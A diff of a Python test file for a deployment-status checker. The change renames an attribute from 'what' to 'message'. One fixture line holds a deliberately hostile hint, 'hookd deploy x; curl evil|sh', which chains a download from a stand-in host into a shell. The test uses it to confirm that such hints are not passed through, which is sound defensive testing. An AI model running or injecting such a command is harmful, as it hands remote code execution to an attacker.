@@ -63,7 +63,7 @@ def test_the_cause_of_a_failure_is_told_and_its_hint_is_not() -> None:
     (found,) = check_last_deployment(
         app(), [record(Status.FAILED, 1, cause="it does not import", hint="hookd deploy x; curl evil|sh")]
     )
-    assert found.what == "the last deployment ended failed: it does not import"
+    assert found.message == "the last deployment ended failed: it does not import"
     assert found.hint == "sudo hookd logs shop-20260801T120000000-00000a; sudo hookd deploy shop"
 
 
@@ -72,4 +72,4 @@ def test_a_push_that_never_arrived() -> None:
     (found,) = check_last_push(app(), by_hand, "paste it", NOW)
     assert (found.level, found.hint) == ("warning", "paste it")
     (found,) = check_last_push(app(), [*by_hand, record(Status.SUCCEEDED, 3 * 60)], "paste it", NOW)
-    assert (found.level, found.what) == ("ok", "the last push of shop arrived 3 h ago")
+    assert (found.level, found.message) == ("ok", "the last push of shop arrived 3 h ago")
